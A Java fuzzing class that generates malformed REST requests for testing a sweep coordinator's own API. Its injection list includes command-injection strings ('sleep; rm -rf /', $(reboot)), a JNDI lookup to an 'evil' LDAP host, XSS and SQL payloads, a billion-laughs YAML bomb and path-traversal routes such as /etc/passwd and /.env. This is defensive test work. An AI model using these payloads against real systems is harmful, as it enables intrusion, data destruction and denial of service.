package org.tunefarm.coordinator.fuzz;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Seeded bad REST requests: spoiled and garbled sweep specs, wrong types field by field, code in
 * constraints, deep and explosive documents, oversized bodies, unknown routes, wrong methods and
 * missing tokens. Every spec keeps {@code deviceClasses: [nowhere]}, so one that a mutation left
 * valid is accepted but never dispatched.
 */
final class RestInputs {

    record Input(String kind, String method, String path, String body, String token) {}

    static final String VALID_JSON = "{\"deviceClasses\":[\"nowhere\"],\"name\":\"fuzz\",\"kernel\":\"sleep\",\"shapes\":[{\"unitUs\":10}],"
            + "\"space\":{\"a\":[4,5],\"b\":[11],\"mode\":[\"fast\"]},\"constraints\":[\"a + b <= 28\"],"
            + "\"strategy\":{\"name\":\"exhaustive\",\"budget\":0},\"measure\":{\"minSamples\":3,\"timeoutMs\":5000},\"batchSize\":4}";
    static final String VALID_YAML = "deviceClasses: [nowhere]\nname: fuzz\nkernel: sleep\nshapes: [{unitUs: 10}]\n"
            + "space: {a: [4, 5], b: [11], mode: [fast]}\nconstraints: [\"a + b <= 28\"]\n"
            + "strategy: {name: exhaustive, budget: 0}\nmeasure: {minSamples: 3, timeoutMs: 5000}\nbatchSize: 4\n";

    /** Wrong values field by field: each makes the spec invalid. */
    private static final Map<String, Object[]> WRONG = Map.ofEntries(
            Map.entry("kernel", new Object[] {5, "conv9d", "", null, new JsonArray().add("sleep"), "SLEEP", "sleep; rm -rf /"}),
            Map.entry("shapes", new Object[] {"big", new JsonArray(), new JsonArray().add(new JsonObject()), shape("unitUs", -1), shape("unitUs", "x"),
                    shape("unitUs", 1e10), shape("M", 1), shape("unitUs", 0), shape("unitUs", 1.5), null}),
            Map.entry("space", new Object[] {new JsonObject().put("zz", new JsonArray().add(1)), new JsonObject().put("a", new JsonArray().add(99)),
                    new JsonObject().put("a", new JsonArray()), new JsonObject().put("a", "x"), new JsonObject().put("mode", new JsonArray().add("warp")),
                    new JsonObject().put("a", new JsonArray().add(new JsonObject())), "all", new JsonObject().put("a", new JsonArray().add(15)).put("b", new JsonArray().add(15))}),
            Map.entry("strategy", new Object[] {5, new JsonObject().put("budget", -1), new JsonObject().put("name", "nope"),
                    new JsonObject().put("name", "random").put("seed", "x"), new JsonObject().put("speed", 1), new JsonObject().put("seconds", -3)}),
            Map.entry("measure", new Object[] {"fast", new JsonObject().put("timeoutMs", 0), new JsonObject().put("minSamples", 1_000_000_000),
                    new JsonObject().put("minSampleMs", "x"), new JsonObject().put("turbo", true), new JsonObject().put("timeoutMs", 1.5)}),
            Map.entry("batchSize", new Object[] {0, 1001, "x", 1.5, -1, Long.MAX_VALUE}),
            Map.entry("deviceClasses", new Object[] {"nowhere", new JsonArray().add(5), new JsonObject()}),
            Map.entry("dtype", new Object[] {"fp64", 5, new JsonArray()}),
            Map.entry("name", new Object[] {5, "x".repeat(300), new JsonObject()}),
            Map.entry("constraints", new Object[] {"a < 5", new JsonArray().add(5), new JsonArray().add("a <"), new JsonArray().add("zz > 1"),
                    new JsonArray().add("a + b > 100")}));
    private static final List<String> WRONG_FIELDS = WRONG.keySet().stream().sorted().toList();

    private static final String[] INJECTIONS = {"java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\")", "${jndi:ldap://evil/a}", "`id`",
            "a; System.exit(0)", "__import__('os').system('id')", "T(java.lang.Runtime).getRuntime()", "#{1+1}", "$(reboot)", "a == 1 || exec('x')",
            "new java.io.File('/').delete()", "a.getClass().forName('java.lang.Runtime')", "<script>alert(1)</script>", "' OR 1=1 --", "a\u0000b"};

    private final SplittableRandom r;
    private final String admin;
    private final String reader;

    RestInputs(long seed, String admin, String reader) {
        this.r = new SplittableRandom(seed);
        this.admin = admin;
        this.reader = reader;
    }

    private static JsonArray shape(String dim, Object v) {
        return new JsonArray().add(new JsonObject().put(dim, v));
    }

    List<Input> generate() {
        List<Input> out = new ArrayList<>();
        for (int i = 0; i < 800; i++) out.add(post("garbled-spec", Mutations.garble(r.nextBoolean() ? VALID_JSON : VALID_YAML, r)));
        for (int i = 0; i < 1000; i++) out.add(post("spoiled-spec", spoiled()));
        for (int i = 0; i < 700; i++) out.add(post("wrong-field", wrongField()));
        for (int i = 0; i < 400; i++) {
            JsonObject s = new JsonObject(VALID_JSON).put("constraints", new JsonArray().add(INJECTIONS[r.nextInt(INJECTIONS.length)]));
            out.add(post("code-in-constraint", r.nextBoolean() ? s.encode() : "constraints: [" + new JsonArray().add(s.getJsonArray("constraints").getString(0)).encode().substring(1)
                    + "\n" + VALID_YAML.replace("constraints: [\"a + b <= 28\"]\n", "")));
        }
        for (int i = 0; i < 200; i++) out.add(post("deep-nesting", deep()));
        for (int i = 0; i < 100; i++) out.add(post("yaml-bomb", bomb(3 + r.nextInt(8))));
        for (int i = 0; i < 40; i++) out.add(post("oversized", "name: \"" + "x".repeat(256 * 1024 + r.nextInt(100_000)) + "\"\n"));
        for (int i = 0; i < 500; i++) out.add(post("random-body", r.nextBoolean() ? Mutations.randomText(r, 1 + r.nextInt(2000))
                : new String(Mutations.randomBytes(r, 1 + r.nextInt(2000)), StandardCharsets.ISO_8859_1)));
        for (int i = 0; i < 600; i++) out.add(route());
        for (int i = 0; i < 400; i++) out.add(wrongMethod());
        for (int i = 0; i < 300; i++) out.add(new Input("no-admin-token", "POST", "/api/sweeps", VALID_YAML, new String[] {null, "", reader, admin + " x", "Bearer"}[r.nextInt(5)]));
        for (int i = 0; i < 200; i++) {
            String[] paths = {"/api/sweeps", "/api/agents", "/api/table", "/api/sweeps/abc"};
            out.add(new Input("no-read-token", "GET", paths[r.nextInt(paths.length)], null, new String[] {null, "", "fuzz-reaD", "x"}[r.nextInt(4)]));
        }
        return out;
    }

    private Input post(String kind, String body) {
        return new Input(kind, "POST", "/api/sweeps", body, admin);
    }

    private String spoiled() {
        JsonObject s = Mutations.spoil(new JsonObject(VALID_JSON), r);
        s.put("deviceClasses", new JsonArray().add("nowhere"));
        return s.encode();
    }

    private String wrongField() {
        String field = WRONG_FIELDS.get(r.nextInt(WRONG_FIELDS.size()));
        Object[] values = WRONG.get(field);
        JsonObject s = new JsonObject(VALID_JSON).put(field, values[r.nextInt(values.length)]);
        if (!field.equals("deviceClasses")) s.put("deviceClasses", new JsonArray().add("nowhere"));
        return s.encode();
    }

    private String deep() {
        int d = 33 + r.nextInt(3000);
        return switch (r.nextInt(3)) {
            case 0 -> "{\"kernel\":\"sleep\",\"space\":" + "{\"a\":".repeat(d) + "1" + "}".repeat(d) + "}";
            case 1 -> "[".repeat(d) + "]".repeat(d);
            default -> {
                StringBuilder b = new StringBuilder("kernel: sleep\nspace:\n");
                for (int i = 0; i < Math.min(d, 400); i++) b.append("  ".repeat(i + 1)).append("k").append(i).append(":\n");
                yield b.append("  ".repeat(Math.min(d, 400) + 1)).append("1\n").toString();
            }
        };
    }

    /** Billion laughs, {@code levels} deep. */
    private String bomb(int levels) {
        StringBuilder b = new StringBuilder("l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int k = 1; k <= levels; k++) {
            b.append('l').append(k).append(": &l").append(k).append(" [");
            for (int i = 0; i < 9; i++) b.append(i > 0 ? ", " : "").append("*l").append(k - 1);
            b.append("]\n");
        }
        return r.nextBoolean() ? b.toString() : "kernel: sleep\nshapes: &s [{unitUs: 1}]\nspace: *s\nconstraints: *s\n" + b;
    }

    private Input route() {
        // Not "/": that is the dashboard page.
        String[] bases = {"/dashboard", "/api", "/api/", "/api/sweep", "/api/sweeps/x/y", "/api/tables", "/admin", "/api/../etc/passwd", "/.env", "/api/health/x"};
        String path = bases[r.nextInt(bases.length)];
        if (r.nextBoolean()) path += "/" + URLEncoder.encode(Mutations.randomText(r, 1 + r.nextInt(40)), StandardCharsets.UTF_8);
        String method = new String[] {"GET", "POST", "PUT", "DELETE"}[r.nextInt(4)];
        return new Input("unknown-route", method, path, method.equals("GET") || method.equals("DELETE") ? null : "{}", admin);
    }

    private Input wrongMethod() {
        String[][] wrong = {{"/api/health", "POST"}, {"/api/health", "DELETE"}, {"/api/agents", "PUT"}, {"/api/sweeps", "DELETE"},
                {"/api/sweeps", "PATCH"}, {"/api/sweeps/abc", "POST"}, {"/api/sweeps/abc", "DELETE"}, {"/api/table", "POST"}, {"/api/table", "OPTIONS"}};
        String[] w = wrong[r.nextInt(wrong.length)];
        return new Input("wrong-method", w[1], w[0], w[1].equals("DELETE") || w[1].equals("OPTIONS") ? null : "{}", admin);
    }
}
